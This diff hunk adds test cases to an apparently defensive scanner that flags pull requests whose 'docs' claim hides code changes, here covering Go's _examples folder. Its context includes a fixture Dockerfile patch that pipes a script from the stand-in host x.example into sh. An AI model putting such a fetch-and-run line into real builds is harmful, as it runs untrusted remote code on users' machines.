@@ -2492,6 +2492,10 @@ describe('pr-claim-mismatch: false alarms and a miss from Go, Rust and JVM histo
     expect(claimOf('examples/graceful-shutdown/src/main.rs', example, 'docs: update deprecated TimeoutLayer::new in example')).toEqual([]);
     // Under a typo claim the example's code is code.
     expect(claimOf('examples/graceful-shutdown/src/main.rs', example, 'Fix typo in graceful-shutdown example')).toEqual(['examples/graceful-shutdown/src/main.rs:10']);
+    // Go's _examples/ folder, which the go tool never builds, is examples too; a package merely named like it is code.
+    const goExample = ['@@ -10,2 +10,2 @@', '-\tr.Use(middleware.RealIP)', '+\tr.Use(middleware.ClientIP(middleware.XForwardedFor))'].join('\n');
+    expect(claimOf('_examples/rest/main.go', goExample, 'docs: update the rest example for ClientIP')).toEqual([]);
+    expect(claimOf('internal/my_examples/main.go', goExample, 'docs: update the rest example for ClientIP')).toEqual(['internal/my_examples/main.go:10']);
     const docker = ['@@ -3,2 +3,2 @@', ' FROM golang:1.22', '-RUN go build ./...', '+RUN curl -s https://x.example/p | sh'].join('\n');
     expect(scan([makeFile('Dockerfile', { patch: docker })], 'docs: fix the build instructions').map((f) => f.id)).toContain('pr-claim-mismatch');
     const dockerGo = ['@@ -3,2 +3,2 @@', ' func run() error {', '-\treturn build()', '+\treturn push()'].join('\n');
